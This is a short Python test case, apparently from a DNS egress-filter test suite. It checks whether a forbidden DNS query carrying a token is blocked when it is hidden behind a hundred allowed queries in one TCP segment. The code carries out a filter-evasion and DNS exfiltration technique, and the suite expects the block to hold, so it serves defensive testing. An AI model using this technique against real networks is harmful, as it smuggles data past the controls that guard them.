#!/usr/bin/python3
# id: d35i_dns_tcp_behind_many
# title: a forbidden query behind a hundred allowed ones in one segment
# needs: user
# expect: block
# why: a program has an end to what it reads of a packet
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
framed = lambda q: len(q).to_bytes(2, 'big') + q
def f():
    s = socket.create_connection((ALLOW, 53), 3); s.sendall(framed(dnsq(ANAME)) * 100 + framed(dnsq(f'{TOK}.{FNAME}'))); s.settimeout(2)
    while s.recv(65536): pass
attempt(f, dst=(ALLOW,), chan=('dns',))
